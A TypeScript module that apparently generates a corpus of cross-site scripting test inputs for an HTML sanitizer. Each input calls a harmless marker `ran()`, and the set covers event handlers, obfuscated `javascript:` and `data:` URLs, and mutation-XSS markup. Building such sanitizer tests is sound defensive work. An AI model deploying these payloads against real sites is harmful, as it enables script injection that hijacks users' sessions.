// HTML that tries to run something wherever it is shown: over a thousand ways, each of which calls `ran()`. Handlers on every tag that has
// been used for it, addresses that are programs in every spelling that browsers forgive, and markup that changes when it is parsed again.

const tags =
  'img svg video audio source iframe object embed input details body marquee select textarea button form a div p span td math style meter isindex'.split(
    ' ',
  );
const events =
  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onanimationstart onstart onbegin oncut onpaste'.split(
    ' ',
  );
const quoting: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} src=x ${event}="ran()" autofocus open>x</${tag}>`,
  (tag, event) => `<${tag}/src=x/${event}=ran()//>`,
  (tag, event) => `<${tag.toUpperCase()} ${event.toUpperCase()}='ran()' style="animation:a 1s" tabindex=0>x`,
];

const programs = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  '\u0001javascript:ran()',
  'java\tscript:ran()',
  'java&#10;script:ran()',
  'java&Tab;script&colon;ran()',
  '&#106;&#97;&#118;&#97;script:ran()',
  '&#x6A;avascript:ran()',
  'javascript://a.example/%0aran()',
  'javascript:1234//https://a.example%0aran()',
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=ran() xmlns="http://www.w3.org/2000/svg"/>',
  'vbscript:ran()',
  '{{contact.website}}javascript:ran()',
  'view-source:javascript:ran()',
  'feed:javascript:ran()',
];
const leading: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a target=_self href='${address}'><b>x</b></a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}" form=f>x</button>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<div style="background:url('${address}')">x</div>`,
  (address) => `<table background="${address}"><tr><td>x</td></tr></table>`,
  (address) => `<div data-video="${address}">x</div>`,
  (address) => `<span data-merge="${address}" data-fallback="<img src=x onerror=ran()>">x</span>`,
];

const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><img src=x onerror=ran()></template>',
  '<select><template><style></select><img src=x onerror=ran()></style></template></select>',
  '<p style="color:red;&quot;><img src=x onerror=ran()>">x</p>',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<title><img src="</title><img src=x onerror=ran()>">',
  '<textarea><img title="</textarea><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[><img src=x onerror=ran()>]]>',
  '<svg><script>ran()</script></svg>',
  '<script>ran()</script>',
  '<script src="data:text/javascript,ran()"></script>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<style>@import "data:text/css,*{x:expression(ran())}"</style>',
  '<table data-listings=\'[{"listingId":"1","url":"javascript:ran()","photo":"x\\" onerror=ran()"}]\'><tr><td>x</td></tr></table>',
  '<table data-listings="[{&quot;listingId&quot;:&quot;<img src=x onerror=ran()>&quot;}]"><tr><td>x</td></tr></table>',
  '<a href="https://a.example/&quot; onmouseover=&quot;ran()">x</a>',
];

export const hostileHtml: readonly string[] = [
  ...tags.flatMap((tag) => events.flatMap((event) => quoting.map((write) => write(tag, event)))),
  ...programs.flatMap((program) => leading.map((lead) => lead(program))),
  ...mutating,
];
